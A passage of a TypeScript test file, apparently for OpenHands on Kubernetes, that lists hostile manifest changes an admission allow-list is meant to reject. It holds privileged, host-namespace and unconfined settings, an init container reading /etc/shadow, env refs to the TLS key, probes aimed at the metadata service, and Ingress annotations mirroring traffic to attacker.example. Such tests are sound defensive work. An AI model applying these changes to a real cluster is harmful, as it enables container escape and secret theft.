/**
 * Hostile variants of OpenHands' own objects: what an attacker holding the app server's token
 * could send instead, one field at a time, for every field of PodSpec, Container, Service, Ingress
 * and PersistentVolumeClaim that can grant privilege, reach a secret, change scheduling or change
 * routing. This is a list of attacks, a test, never the policy: the policy is an allow-list.
 */
export type Severity = 'high' | 'medium' | 'low';

/** What a variant knows about the session it attacks. */
export interface VariantContext {
  readonly sid: string;
  readonly domain: string;
  readonly namespace: string;
}

/** One hostile variant. */
export interface Variant {
  readonly kind: 'Pod' | 'Service' | 'Ingress' | 'PersistentVolumeClaim';
  /** The field changed, as a path. */
  readonly field: string;
  /** What the change does. */
  readonly name: string;
  readonly severity: Severity;
  /** Changes OpenHands' object in place. */
  readonly change: (object: any, ctx: VariantContext) => void;
  /** Sent as an UPDATE of this subresource (or of the object) of the admitted object, else a CREATE. */
  readonly update?: { readonly subResource?: string; readonly username?: string };
  /** The code Service rather than the execution server's. */
  readonly codeService?: boolean;
  /**
   * The config key that pins the field: unset, the cluster's default fills it in before policies
   * run and any value is admitted (the policy cannot know the default), so the variant is expected only when set.
   */
  readonly pinnedBy?: 'extended.manifests.ingress_class' | 'kubernetes.pvc_storage_class';
}

const c0 = (pod: any) => pod.spec.containers[0];
const sc = (pod: any) => (c0(pod).securityContext ??= {});
const podSc = (pod: any) => (pod.spec.securityContext ??= {});
const v = (kind: Variant['kind'], field: string, name: string, severity: Severity, change: Variant['change'], extra: Partial<Variant> = {}): Variant => ({ kind, field, name, severity, change, ...extra });
const pod = (field: string, name: string, severity: Severity, change: (p: any, ctx: VariantContext) => void, extra?: Partial<Variant>) => v('Pod', field, name, severity, change, extra);

const SECRET = 'sandboxes-wildcard-tls';
const META = '169.254.169.254';

const VOLUMES: Array<[string, any]> = [
  ['hostPath /', { hostPath: { path: '/' } }], ['hostPath docker socket', { hostPath: { path: '/var/run/docker.sock', type: 'Socket' } }],
  ['secret (the TLS key)', { secret: { secretName: SECRET } }], ['configMap', { configMap: { name: 'kube-root-ca.crt' } }],
  ['projected token', { projected: { sources: [{ serviceAccountToken: { path: 'token', audience: 'vault' } }] } }],
  ['projected secret', { projected: { sources: [{ secret: { name: SECRET } }] } }], ['emptyDir in memory', { emptyDir: { medium: 'Memory' } }],
  ['another claim', { persistentVolumeClaim: { claimName: 'openhands-runtime-victim-pvc' } }], ['CSI inline', { csi: { driver: 'secrets-store.csi.k8s.io', volumeAttributes: { secretProviderClass: 'x' } } }],
  ['NFS', { nfs: { server: '10.0.0.5', path: '/' } }], ['iSCSI', { iscsi: { targetPortal: '10.0.0.5:3260', iqn: 'iqn.x', lun: 0 } }],
  ['generic ephemeral', { ephemeral: { volumeClaimTemplate: { spec: { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '1Ti' } } } } } }],
  ['downwardAPI', { downwardAPI: { items: [{ path: 'labels', fieldRef: { fieldPath: 'metadata.labels' } }] } }], ['image volume', { image: { reference: 'evil/tools:1' } }],
  ['gitRepo', { gitRepo: { repository: 'https://example.com/x.git' } }], ['RBD', { rbd: { monitors: ['10.0.0.5'], image: 'x' } }],
];

const POD_FIELDS: Array<[string, string, Severity, any]> = [
  ['nodeName', 'pinned to a chosen node', 'high', 'control-plane-1'],
  ['affinity', 'node affinity to control-plane nodes', 'medium', { nodeAffinity: { requiredDuringSchedulingIgnoredDuringExecution: { nodeSelectorTerms: [{ matchExpressions: [{ key: 'node-role.kubernetes.io/control-plane', operator: 'Exists' }] }] } } }],
  ['affinity', 'pod affinity next to a victim', 'medium', { podAffinity: { requiredDuringSchedulingIgnoredDuringExecution: [{ labelSelector: { matchLabels: { app: 'vault' } }, topologyKey: 'kubernetes.io/hostname', namespaceSelector: {} }] } }],
  ['priorityClassName', 'system-node-critical (preempts others)', 'high', 'system-node-critical'],
  ['priorityClassName', 'system-cluster-critical', 'high', 'system-cluster-critical'],
  ['schedulerName', 'another scheduler', 'medium', 'my-scheduler'],
  ['hostAliases', 'host aliases redirecting the API server', 'medium', [{ ip: '10.0.0.66', hostnames: ['kubernetes.default.svc'] }]],
  ['hostNetwork', 'host network', 'high', true], ['hostPID', 'host PID namespace', 'high', true], ['hostIPC', 'host IPC namespace', 'high', true],
  ['hostUsers', 'host user namespace explicitly', 'low', true], ['shareProcessNamespace', 'shared process namespace', 'low', true],
  ['dnsConfig', 'DNS to an attacker\'s resolver', 'medium', { nameservers: ['203.0.113.53'] }], ['dnsPolicy', 'DNS policy None', 'medium', 'None'],
  ['dnsPolicy', 'DNS of the node', 'medium', 'Default'],
  ['hostname', 'chosen hostname', 'low', 'kube-apiserver'], ['subdomain', 'subdomain', 'low', 'x'], ['setHostnameAsFQDN', 'hostname as FQDN', 'low', true],
  ['readinessGates', 'readiness gates', 'low', [{ conditionType: 'example.com/x' }]],
  ['topologySpreadConstraints', 'topology spread', 'low', [{ maxSkew: 1, topologyKey: 'kubernetes.io/hostname', whenUnsatisfiable: 'DoNotSchedule' }]],
  ['schedulingGates', 'scheduling gates', 'low', [{ name: 'example.com/hold' }]],
  ['resourceClaims', 'DRA resource claim (a GPU)', 'high', [{ name: 'gpu', resourceClaimTemplateName: 'gpu-template' }]],
  ['resources', 'pod-level resources', 'medium', { limits: { cpu: '64', memory: '512Gi' } }], ['os', 'windows', 'low', { name: 'windows' }],
  ['overhead', 'a declared overhead', 'low', { cpu: '1m' }], ['activeDeadlineSeconds', 'deadline', 'low', 1],
  ['terminationGracePeriodSeconds', 'a week of grace after delete', 'medium', 604800],
  ['preemptionPolicy', 'never preempted', 'low', 'Never'], ['priority', 'a chosen priority', 'high', 2000001000],
  ['automountServiceAccountToken', 'a token mounted', 'high', true], ['serviceAccountName', 'another ServiceAccount', 'high', 'openhands'],
  ['restartPolicy', 'restart always', 'low', 'Always'],
  ['imagePullSecrets', 'another pull secret', 'medium', [{ name: 'someone-elses-registry' }]],
  ['initContainers', 'an init container', 'high', [{ name: 'init', image: 'busybox', command: ['sh', '-c', 'cat /etc/shadow'] }]],
  ['ephemeralContainers', 'an ephemeral container at create', 'high', [{ name: 'debug', image: 'busybox' }]],
];

const SECURITY: Array<[string, string, Severity, (p: any) => void]> = [
  ['securityContext.sysctls', 'unsafe sysctl', 'high', (p) => { podSc(p).sysctls = [{ name: 'kernel.core_pattern', value: '|/tmp/x' }]; }],
  ['securityContext.sysctls', 'namespaced sysctl', 'low', (p) => { podSc(p).sysctls = [{ name: 'net.ipv4.ip_unprivileged_port_start', value: '0' }]; }],
  ['securityContext.seLinuxOptions', 'SELinux spc_t', 'high', (p) => { podSc(p).seLinuxOptions = { type: 'spc_t' }; }],
  ['securityContext.seccompProfile', 'pod seccomp Unconfined', 'high', (p) => { podSc(p).seccompProfile = { type: 'Unconfined' }; }],
  ['securityContext.appArmorProfile', 'pod AppArmor Unconfined', 'high', (p) => { podSc(p).appArmorProfile = { type: 'Unconfined' }; }],
  ['securityContext.runAsUser', 'run as a chosen user', 'low', (p) => { podSc(p).runAsUser = 0; }],
  ['securityContext.supplementalGroups', 'host groups (docker, disk)', 'medium', (p) => { podSc(p).supplementalGroups = [6, 999]; }],
  ['securityContext.fsGroup', 'fsGroup', 'low', (p) => { podSc(p).fsGroup = 0; }],
  ['securityContext.windowsOptions', 'Windows host process', 'high', (p) => { podSc(p).windowsOptions = { hostProcess: true }; }],
  ['containers[0].securityContext.privileged', 'privileged', 'high', (p) => { sc(p).privileged = true; delete sc(p).allowPrivilegeEscalation; }],
  ['containers[0].securityContext.capabilities.add', 'SYS_ADMIN', 'high', (p) => { sc(p).capabilities = { add: ['SYS_ADMIN'] }; }],
  ['containers[0].securityContext.capabilities.add', 'NET_ADMIN', 'high', (p) => { sc(p).capabilities = { add: ['NET_ADMIN'] }; }],
  ['containers[0].securityContext.capabilities.add', 'NET_RAW', 'medium', (p) => { sc(p).capabilities = { add: ['NET_RAW'] }; }],
  ['containers[0].securityContext.capabilities.add', 'ALL', 'high', (p) => { sc(p).capabilities = { add: ['ALL'] }; }],
  ['containers[0].securityContext.capabilities.add', 'BPF and PERFMON', 'high', (p) => { sc(p).capabilities = { add: ['BPF', 'PERFMON'] }; }],
  ['containers[0].securityContext.capabilities.add', 'SYS_PTRACE', 'high', (p) => { sc(p).capabilities = { add: ['SYS_PTRACE'] }; }],
  ['containers[0].securityContext.capabilities.add', 'SYS_MODULE', 'high', (p) => { sc(p).capabilities = { add: ['SYS_MODULE'] }; }],
  ['containers[0].securityContext.allowPrivilegeEscalation', 'privilege escalation', 'medium', (p) => { sc(p).allowPrivilegeEscalation = true; }],
  ['containers[0].securityContext.seccompProfile', 'container seccomp Unconfined', 'high', (p) => { sc(p).seccompProfile = { type: 'Unconfined' }; }],
  ['containers[0].securityContext.seccompProfile', 'container seccomp Localhost', 'medium', (p) => { sc(p).seccompProfile = { type: 'Localhost', localhostProfile: 'allow-all.json' }; }],
  ['containers[0].securityContext.appArmorProfile', 'container AppArmor Unconfined', 'high', (p) => { sc(p).appArmorProfile = { type: 'Unconfined' }; }],
  ['containers[0].securityContext.seLinuxOptions', 'container SELinux spc_t', 'high', (p) => { sc(p).seLinuxOptions = { type: 'spc_t' }; }],
  ['containers[0].securityContext.seLinuxOptions', 'container SELinux level s0', 'medium', (p) => { sc(p).seLinuxOptions = { level: 's0' }; }],
  ['containers[0].securityContext.procMount', 'unmasked /proc', 'high', (p) => { sc(p).procMount = 'Unmasked'; }],
  ['containers[0].securityContext.runAsUser', 'a chosen user', 'low', (p) => { sc(p).runAsUser = 0; }],
  ['containers[0].securityContext.windowsOptions', 'container host process', 'high', (p) => { sc(p).windowsOptions = { hostProcess: true }; }],
];

const PROBES: Array<[string, string, Severity, (p: any) => void]> = [
  ['readinessProbe.httpGet.host', 'kubelet calls the cloud metadata service', 'high', (p) => { c0(p).readinessProbe.httpGet.host = META; }],
  ['readinessProbe.httpGet.host', 'kubelet calls a node port on the node', 'high', (p) => { c0(p).readinessProbe.httpGet = { host: '127.0.0.1', port: 10250, path: '/pods', scheme: 'HTTPS' }; }],
  ['readinessProbe.httpGet.httpHeaders', 'Host header', 'medium', (p) => { c0(p).readinessProbe.httpGet.httpHeaders = [{ name: 'Host', value: 'metadata.google.internal' }]; }],
  ['readinessProbe.tcpSocket.host', 'TCP probe of another host', 'medium', (p) => { c0(p).readinessProbe = { tcpSocket: { host: '10.0.0.1', port: 6443 } }; }],
  ['readinessProbe.exec', 'exec probe', 'low', (p) => { c0(p).readinessProbe = { exec: { command: ['sh', '-c', 'true'] } }; }],
  ['readinessProbe.grpc', 'gRPC probe', 'low', (p) => { c0(p).readinessProbe = { grpc: { port: 9000 } }; }],
  ['readinessProbe.httpGet.port', 'probe of another port', 'low', (p) => { c0(p).readinessProbe.httpGet.port = 9000; }],
  ['livenessProbe', 'liveness probe on the metadata service', 'high', (p) => { c0(p).livenessProbe = { httpGet: { host: META, path: '/', port: 80 } }; }],
  ['startupProbe', 'startup probe', 'medium', (p) => { c0(p).startupProbe = { httpGet: { host: META, path: '/', port: 80 } }; }],
  ['lifecycle.postStart.httpGet.host', 'postStart hook calls the metadata service', 'high', (p) => { c0(p).lifecycle = { postStart: { httpGet: { host: META, path: '/', port: 80 } } }; }],
  ['lifecycle.preStop.exec', 'preStop hook', 'medium', (p) => { c0(p).lifecycle = { preStop: { exec: { command: ['sh'] } } }; }],
  ['lifecycle.preStop.sleep', 'preStop sleep', 'low', (p) => { c0(p).lifecycle = { preStop: { sleep: { seconds: 3600 } } }; }],
];

const CONTAINER: Array<[string, string, Severity, (p: any) => void]> = [
  ['image', 'another image', 'high', (p) => { c0(p).image = 'evil/miner:1'; }],
  ['env[].valueFrom.secretKeyRef', 'reads the TLS key', 'high', (p) => { c0(p).env.push({ name: 'KEY', valueFrom: { secretKeyRef: { name: SECRET, key: 'tls.key' } } }); }],
  ['env[].valueFrom.secretKeyRef', 'reads the registry credentials', 'high', (p) => { c0(p).env.push({ name: 'port', valueFrom: { secretKeyRef: { name: 'registry-credentials', key: '.dockerconfigjson' } } }); }],
  ['env[].valueFrom.configMapKeyRef', 'reads a ConfigMap', 'medium', (p) => { c0(p).env.push({ name: 'CA', valueFrom: { configMapKeyRef: { name: 'kube-root-ca.crt', key: 'ca.crt' } } }); }],
  ['env[].valueFrom.fieldRef', 'reads the node\'s IP', 'low', (p) => { c0(p).env.push({ name: 'HOST_IP', valueFrom: { fieldRef: { fieldPath: 'status.hostIP' } } }); }],
  ['env[].valueFrom.resourceFieldRef', 'reads its limits', 'low', (p) => { c0(p).env.push({ name: 'MEM', valueFrom: { resourceFieldRef: { resource: 'limits.memory' } } }); }],
  ['env[].name', 'LD_PRELOAD', 'medium', (p) => { c0(p).env.push({ name: 'LD_PRELOAD', value: '/tmp/x.so' }); }],
  ['env[].name', 'KUBERNETES_SERVICE_HOST redirected', 'medium', (p) => { c0(p).env.push({ name: 'KUBERNETES_SERVICE_HOST', value: '203.0.113.1' }); }],
  ['envFrom.secretRef', 'every key of a Secret', 'high', (p) => { c0(p).envFrom = [{ secretRef: { name: SECRET } }]; }],
  ['envFrom.configMapRef', 'every key of a ConfigMap', 'medium', (p) => { c0(p).envFrom = [{ configMapRef: { name: 'x' } }]; }],
  ['args', 'extra arguments', 'low', (p) => { c0(p).args = ['--evil']; }],
  ['ports[].hostPort', 'a host port', 'high', (p) => { c0(p).ports[0].hostPort = 80; }],
  ['ports[].hostIP', 'a host IP', 'medium', (p) => { c0(p).ports[0].hostIP = '0.0.0.0'; c0(p).ports[0].hostPort = 8080; }],
  ['ports[]', 'another port', 'low', (p) => { c0(p).ports.push({ containerPort: 22, name: 'ssh' }); }],
  ['volumeMounts[].subPath', 'subPath', 'medium', (p) => { c0(p).volumeMounts[0].subPath = '..'; }],
  ['volumeMounts[].mountPropagation', 'Bidirectional propagation', 'high', (p) => { c0(p).volumeMounts[0].mountPropagation = 'Bidirectional'; }],
  ['volumeMounts[]', 'a second mount', 'medium', (p) => { c0(p).volumeMounts.push({ name: 'workspace-volume', mountPath: '/etc' }); }],
  ['resources.limits', 'nvidia.com/gpu', 'high', (p) => { c0(p).resources.limits['nvidia.com/gpu'] = '8'; }],
  ['resources.requests', 'nvidia.com/gpu request', 'high', (p) => { c0(p).resources.requests['nvidia.com/gpu'] = '8'; c0(p).resources.limits['nvidia.com/gpu'] = '8'; }],
  ['resources.limits', 'hugepages', 'medium', (p) => { c0(p).resources.limits['hugepages-2Mi'] = '64Gi'; c0(p).resources.requests['hugepages-2Mi'] = '64Gi'; }],
  ['resources.claims', 'a DRA claim', 'high', (p) => { c0(p).resources.claims = [{ name: 'gpu' }]; }],
  ['resources.limits.memory', 'memory limit x100', 'medium', (p) => { c0(p).resources.limits.memory = '400Gi'; }],
  ['resources.requests.memory', 'memory request x100', 'medium', (p) => { c0(p).resources.requests.memory = '400Gi'; }],
  ['resources.requests.cpu', '64 CPUs', 'medium', (p) => { c0(p).resources.requests.cpu = '64'; }],
  ['resources.limits.ephemeral-storage', '10Ti of node disk', 'medium', (p) => { c0(p).resources.limits['ephemeral-storage'] = '10Ti'; }],
  ['resources.limits.memory', 'no memory limit', 'medium', (p) => { delete c0(p).resources.limits.memory; }],
  ['resizePolicy', 'resize policy', 'low', (p) => { c0(p).resizePolicy = [{ resourceName: 'memory', restartPolicy: 'NotRequired' }]; }],
  ['restartPolicy', 'container restart policy', 'low', (p) => { c0(p).restartPolicy = 'Always'; }],
  ['stdin', 'stdin and tty', 'low', (p) => { c0(p).stdin = true; c0(p).tty = true; }],
  ['terminationMessagePath', 'termination message from /etc/shadow', 'medium', (p) => { c0(p).terminationMessagePath = '/etc/shadow'; }],
  ['workingDir', 'another working directory', 'low', (p) => { c0(p).workingDir = '/'; }],
  ['containers[]', 'a sidecar', 'high', (p) => { p.spec.containers.push({ ...JSON.parse(JSON.stringify(c0(p))), name: 'sidecar', image: 'evil/sidecar:1' }); }],
  ['containers[0].name', 'another container name', 'low', (p) => { c0(p).name = 'main'; }],
];

const META_VARIANTS: Array<[string, string, Severity, (p: any, ctx: VariantContext) => void]> = [
  ['metadata.annotations', 'CRI-O devices annotation', 'high', (p) => { (p.metadata.annotations ??= {})['io.kubernetes.cri-o.Devices'] = '/dev/sda'; }],
  ['metadata.annotations', 'CRI-O userns-mode host', 'high', (p) => { (p.metadata.annotations ??= {})['io.kubernetes.cri-o.userns-mode'] = 'host'; }],
  ['metadata.annotations', 'legacy AppArmor unconfined', 'high', (p) => { (p.metadata.annotations ??= {})['container.apparmor.security.beta.kubernetes.io/runtime'] = 'unconfined'; }],
  ['metadata.annotations', 'legacy seccomp unconfined', 'high', (p) => { (p.metadata.annotations ??= {})['seccomp.security.alpha.kubernetes.io/pod'] = 'unconfined'; }],
  ['metadata.annotations', 'cluster-autoscaler: not evictable', 'low', (p) => { (p.metadata.annotations ??= {})['cluster-autoscaler.kubernetes.io/safe-to-evict'] = 'false'; }],
  ['metadata.labels', 'a label another namespace\'s NetworkPolicy trusts', 'medium', (p) => { p.metadata.labels.role = 'db-client'; }],
  ['metadata.labels', 'another app label', 'medium', (p) => { p.metadata.labels.app = 'openhands'; }],
  ['metadata.labels.session', 'another session\'s label', 'medium', (p) => { p.metadata.labels.session = 'victim'; }],
  ['metadata.name', 'not a session pod', 'medium', (p) => { p.metadata.name = 'miner'; }],
  ['metadata.name', 'an upper-case session id', 'low', (p) => { p.metadata.name = 'openhands-runtime-ABC'; p.metadata.labels.session = 'ABC'; }],
];

/** The pod variants. */
export function podVariants(): Variant[] {
  return [
    ...POD_FIELDS.map(([field, name, severity, value]) => pod(field, name, severity, (p) => { p.spec[field] = value; })),
    pod('tolerations', 'tolerates everything', 'high', (p) => { p.spec.tolerations = [{ operator: 'Exists' }]; }),
    pod('tolerations', 'tolerates control-plane nodes', 'high', (p) => { p.spec.tolerations = [...p.spec.tolerations ?? [], { key: 'node-role.kubernetes.io/control-plane', operator: 'Exists', effect: 'NoSchedule' }]; }),
    pod('tolerations', 'tolerates NoExecute forever', 'medium', (p) => { p.spec.tolerations = [...p.spec.tolerations ?? [], { operator: 'Exists', effect: 'NoExecute' }]; }),
    pod('nodeSelector', 'control-plane node selector', 'high', (p) => { p.spec.nodeSelector = { ...p.spec.nodeSelector, 'node-role.kubernetes.io/control-plane': '' }; }),
    pod('nodeSelector', 'a chosen node by hostname', 'medium', (p) => { p.spec.nodeSelector = { ...p.spec.nodeSelector, 'kubernetes.io/hostname': 'node-7' }; }),
    pod('runtimeClassName', 'an unconfined runtime class', 'high', (p) => { p.spec.runtimeClassName = 'unconfined'; }),
    pod('enableServiceLinks', 'service links', 'low', (p) => { p.spec.enableServiceLinks = true; }),
    ...VOLUMES.map(([name, source]) => pod('volumes[]', name, name.startsWith('emptyDir') || name.startsWith('downward') ? 'low' : 'high', (p) => {
      p.spec.volumes.push({ name: 'x', ...source });
      c0(p).volumeMounts.push({ name: 'x', mountPath: '/x' });
    })),
    pod('volumes[0].persistentVolumeClaim.claimName', 'another session\'s workspace', 'high', (p) => { p.spec.volumes[0].persistentVolumeClaim.claimName = 'openhands-runtime-victim-pvc'; }),
    pod('volumes[0].persistentVolumeClaim.readOnly', 'claim read-only flag', 'low', (p) => { p.spec.volumes[0].persistentVolumeClaim.readOnly = false; }),
    ...SECURITY.map(([field, name, severity, change]) => pod(`spec.${field}`, name, severity, change)),
    ...PROBES.map(([field, name, severity, change]) => pod(`containers[0].${field}`, name, severity, change)),
    ...CONTAINER.map(([field, name, severity, change]) => pod(`containers[0].${field}`, name, severity, change)),
    ...META_VARIANTS.map(([field, name, severity, change]) => pod(field, name, severity, change)),
    pod('ephemeralContainers (pods/ephemeralcontainers)', 'kubectl debug into the sandbox', 'high', (p) => { p.spec.ephemeralContainers = [{ name: 'debug', image: 'busybox', targetContainerName: 'runtime', securityContext: { privileged: true } }]; }, { update: { subResource: 'ephemeralcontainers' } }),
    pod('resources (pods/resize)', 'in-place resize to 400Gi', 'medium', (p) => { c0(p).resources.limits.memory = '400Gi'; c0(p).resources.requests.memory = '400Gi'; }, { update: { subResource: 'resize' } }),
    pod('labels (pods UPDATE)', 'relabelled after creation', 'medium', (p) => { p.metadata.labels.role = 'db-client'; }, { update: {} }),
  ];
}

const svc = (field: string, name: string, severity: Severity, change: Variant['change'], extra?: Partial<Variant>) => v('Service', field, name, severity, change, extra);
const ing = (field: string, name: string, severity: Severity, change: Variant['change']) => v('Ingress', field, name, severity, change);
const pvc = (field: string, name: string, severity: Severity, change: Variant['change'], extra?: Partial<Variant>) => v('PersistentVolumeClaim', field, name, severity, change, extra);
const rule0 = (i: any) => i.spec.rules[0];
const path0 = (i: any) => rule0(i).http.paths[0];
const annotate = (o: any, key: string, value: string) => { (o.metadata.annotations ??= {})[key] = value; };

/** The Service variants (of the execution server's Service, and of VS Code's where it matters). */
export function serviceVariants(): Variant[] {
  return [
    svc('spec.type', 'NodePort', 'high', (s) => { s.spec.type = 'NodePort'; }),
    svc('spec.type', 'LoadBalancer', 'high', (s) => { s.spec.type = 'LoadBalancer'; }),
    svc('spec.type', 'ExternalName to the API server', 'high', (s) => { s.spec = { type: 'ExternalName', externalName: 'kubernetes.default.svc.cluster.local' }; }),
    svc('spec.externalIPs', 'external IPs (CVE-2020-8554)', 'high', (s) => { s.spec.externalIPs = ['203.0.113.7']; }),
    svc('spec.loadBalancerIP', 'load balancer IP', 'medium', (s) => { s.spec.loadBalancerIP = '203.0.113.8'; }),
    svc('spec.loadBalancerSourceRanges', 'load balancer source ranges', 'medium', (s) => { s.spec.loadBalancerSourceRanges = ['0.0.0.0/0']; }),
    svc('spec.externalTrafficPolicy', 'external traffic policy', 'low', (s) => { s.spec.externalTrafficPolicy = 'Local'; }),
    svc('spec.clusterIP', 'headless (pod IPs in DNS)', 'low', (s) => { s.spec.clusterIP = 'None'; }),
    svc('spec.selector', 'selects another app (a database)', 'high', (s) => { s.spec.selector = { app: 'postgres' }; }),
    svc('spec.selector', 'selects another session\'s pod', 'high', (s) => { s.spec.selector.session = 'victim'; }),
    svc('spec.selector', 'no selector (hand-made endpoints)', 'high', (s) => { delete s.spec.selector; }),
    svc('spec.selector', 'selects every sandbox', 'medium', (s) => { delete s.spec.selector.session; }),
    svc('spec.ports[].nodePort', 'a node port', 'high', (s) => { s.spec.ports[0].nodePort = 30080; }),
    svc('spec.ports[].targetPort', 'to VS Code instead', 'medium', (s) => { s.spec.ports[0].targetPort = 'vscode'; }),
    svc('spec.ports[]', 'an extra port', 'medium', (s) => { s.spec.ports.push({ name: 'app', port: 30082, targetPort: 30082 }); }),
    svc('spec.ports[].appProtocol', 'an app protocol', 'low', (s) => { s.spec.ports[0].appProtocol = 'kubernetes.io/h2c'; }),
    svc('spec.sessionAffinity', 'client-IP affinity', 'low', (s) => { s.spec.sessionAffinity = 'ClientIP'; }),
    svc('spec.publishNotReadyAddresses', 'unready addresses', 'low', (s) => { s.spec.publishNotReadyAddresses = true; }),
    svc('spec.trafficDistribution', 'traffic distribution', 'low', (s) => { s.spec.trafficDistribution = 'PreferClose'; }),
    svc('spec.internalTrafficPolicy', 'local traffic', 'low', (s) => { s.spec.internalTrafficPolicy = 'Local'; }),
    svc('metadata.name', 'not a session Service', 'medium', (s) => { s.metadata.name = 'kube-dns'; }),
    svc('metadata.name', 'a third Service of a session', 'medium', (s) => { s.metadata.name = `${s.metadata.name}-admin`; }),
    svc('metadata.annotations', 'a cloud load balancer annotation', 'medium', (s) => { annotate(s, 'service.beta.kubernetes.io/aws-load-balancer-scheme', 'internet-facing'); }),
    svc('metadata.annotations', 'external-dns hostname on a Service', 'high', (s) => { annotate(s, 'external-dns.alpha.kubernetes.io/hostname', 'login.bank.example'); }),
    svc('metadata.labels', 'a service-mirror label', 'low', (s) => { (s.metadata.labels ??= {})['mirror.linkerd.io/exported'] = 'true'; }),
    svc('spec.selector', 'the code Service selects another session', 'high', (s) => { s.spec.selector.session = 'victim'; }, { codeService: true }),
    svc('spec.type', 'the code Service as LoadBalancer', 'high', (s) => { s.spec.type = 'LoadBalancer'; }, { codeService: true }),
  ];
}

/** The Ingress variants. */
export function ingressVariants(): Variant[] {
  const annotations: Array<[string, string, Severity]> = [
    ['nginx.ingress.kubernetes.io/server-snippet', 'location / { proxy_pass http://kubernetes.default; }', 'high'],
    ['nginx.ingress.kubernetes.io/configuration-snippet', 'more_set_headers "x: y";', 'high'],
    ['nginx.org/server-snippets', 'location /x { }', 'high'],
    ['nginx.ingress.kubernetes.io/server-alias', 'login.bank.example', 'high'],
    ['nginx.ingress.kubernetes.io/auth-url', 'http://attacker.example/steal', 'medium'],
    ['nginx.ingress.kubernetes.io/mirror-target', 'http://attacker.example$request_uri', 'high'],
    ['nginx.ingress.kubernetes.io/rewrite-target', '/../', 'low'],
    ['nginx.ingress.kubernetes.io/whitelist-source-range', '0.0.0.0/0', 'low'],
    ['external-dns.alpha.kubernetes.io/target', '203.0.113.9', 'high'],
    ['traefik.ingress.kubernetes.io/router.middlewares', 'kube-system-strip@kubernetescrd', 'medium'],
    ['haproxy.org/backend-config-snippet', 'http-request set-path /admin', 'high'],
    ['haproxy-ingress.github.io/config-backend', 'http-request set-path /admin', 'high'],
    ['cert-manager.io/cluster-issuer', 'attacker-issuer', 'medium'],
    ['alb.ingress.kubernetes.io/scheme', 'internet-facing', 'medium'],
  ];
  return [
    ing('spec.rules[0].host', 'a foreign host', 'high', (i) => { rule0(i).host = 'login.bank.example'; }),
    ing('spec.rules[0].host', 'a wildcard host', 'high', (i, ctx) => { rule0(i).host = `*.${ctx.domain}`; }),
    ing('spec.rules[0].host', 'two levels down', 'medium', (i, ctx) => { rule0(i).host = `a.${ctx.sid}.${ctx.domain}`; }),
    ing('spec.rules[0].host', 'another session\'s host', 'high', (i, ctx) => { rule0(i).host = `victim.${ctx.domain}`; }),
    ing('spec.rules[0].host', 'the bare domain', 'high', (i, ctx) => { rule0(i).host = ctx.domain; }),
    ing('spec.rules[0].host', 'no host (every host)', 'high', (i) => { delete rule0(i).host; }),
    ing('spec.rules[]', 'a second rule', 'high', (i) => { i.spec.rules.push({ host: 'login.bank.example', http: rule0(i).http }); }),
    ing('spec.rules[0].http.paths[]', 'a second path', 'medium', (i) => { rule0(i).http.paths.push({ ...path0(i), path: '/x' }); }),
    ing('spec.rules[0].http.paths[0].path', 'another path', 'low', (i) => { path0(i).path = '/admin'; }),
    ing('spec.rules[0].http.paths[0].pathType', 'ImplementationSpecific regex path', 'medium', (i) => { path0(i).pathType = 'ImplementationSpecific'; path0(i).path = '/.*'; }),
    ing('spec.rules[0].http.paths[0].backend.service.name', 'the action execution server', 'high', (i, ctx) => { path0(i).backend.service = { name: `openhands-runtime-${ctx.sid}-svc`, port: { number: 8080 } }; }),
    ing('spec.rules[0].http.paths[0].backend.service.name', 'another session\'s VS Code', 'high', (i) => { path0(i).backend.service.name = 'openhands-runtime-victim-svc-code'; }),
    ing('spec.rules[0].http.paths[0].backend.service.name', 'a foreign Service', 'high', (i) => { path0(i).backend.service.name = 'grafana'; }),
    ing('spec.rules[0].http.paths[0].backend.service.port', 'another port', 'medium', (i) => { path0(i).backend.service.port = { number: 30082 }; }),
    ing('spec.rules[0].http.paths[0].backend.resource', 'a resource backend', 'medium', (i) => { path0(i).backend = { resource: { apiGroup: 'k8s.example.com', kind: 'StorageBucket', name: 'x' } }; }),
    ing('spec.defaultBackend', 'a default backend', 'high', (i, ctx) => { i.spec.defaultBackend = { service: { name: `openhands-runtime-${ctx.sid}-svc-code`, port: { number: 8081 } } }; }),
    ing('spec.tls[].secretName', 'another TLS secret', 'medium', (i, ctx) => { i.spec.tls = [{ hosts: [`${ctx.sid}.${ctx.domain}`], secretName: 'someone-elses-tls' }]; }),
    ing('spec.tls[].hosts', 'TLS for a foreign host', 'medium', (i) => { i.spec.tls = [{ hosts: ['login.bank.example'], secretName: 'sandboxes-wildcard-tls' }]; }),
    { ...ing('spec.ingressClassName', 'a public class', 'medium', (i) => { i.spec.ingressClassName = 'public-internet'; }), pinnedBy: 'extended.manifests.ingress_class' },
    ing('metadata.name', 'not a session Ingress', 'medium', (i) => { i.metadata.name = 'grafana'; }),
    ing('metadata.annotations', 'external-dns hostname of a foreign host', 'high', (i) => { annotate(i, 'external-dns.alpha.kubernetes.io/hostname', 'login.bank.example'); }),
    ing('metadata.labels', 'another label', 'low', (i) => { (i.metadata.labels ??= {}).team = 'x'; }),
    ...annotations.map(([key, value, severity]) => ing('metadata.annotations', key, severity, (i) => { annotate(i, key, value); })),
  ];
}

/** The PersistentVolumeClaim variants. */
export function claimVariants(): Variant[] {
  return [
    pvc('spec.resources.requests.storage', '100Ti', 'medium', (c) => { c.spec.resources.requests.storage = '100Ti'; }),
    pvc('spec.resources.limits', 'a storage limit', 'low', (c) => { c.spec.resources.limits = { storage: '1Ti' }; }),
    pvc('spec.storageClassName', 'another storage class', 'medium', (c) => { c.spec.storageClassName = 'premium-replicated'; }, { pinnedBy: 'kubernetes.pvc_storage_class' }),
    pvc('spec.accessModes', 'ReadWriteMany', 'medium', (c) => { c.spec.accessModes = ['ReadWriteMany']; }),
    pvc('spec.accessModes', 'ReadOnlyMany', 'low', (c) => { c.spec.accessModes = ['ReadOnlyMany']; }),
    pvc('spec.volumeMode', 'a raw block device', 'medium', (c) => { c.spec.volumeMode = 'Block'; }),
    pvc('spec.volumeName', 'bound to a chosen volume at create', 'high', (c) => { c.spec.volumeName = 'pv-of-the-database'; }),
    pvc('spec.dataSource', 'cloned from a snapshot', 'high', (c) => { c.spec.dataSource = { apiGroup: 'snapshot.storage.k8s.io', kind: 'VolumeSnapshot', name: 'db-backup' }; }),
    pvc('spec.dataSource', 'cloned from another claim', 'high', (c) => { c.spec.dataSource = { kind: 'PersistentVolumeClaim', name: 'openhands-runtime-victim-pvc' }; }),
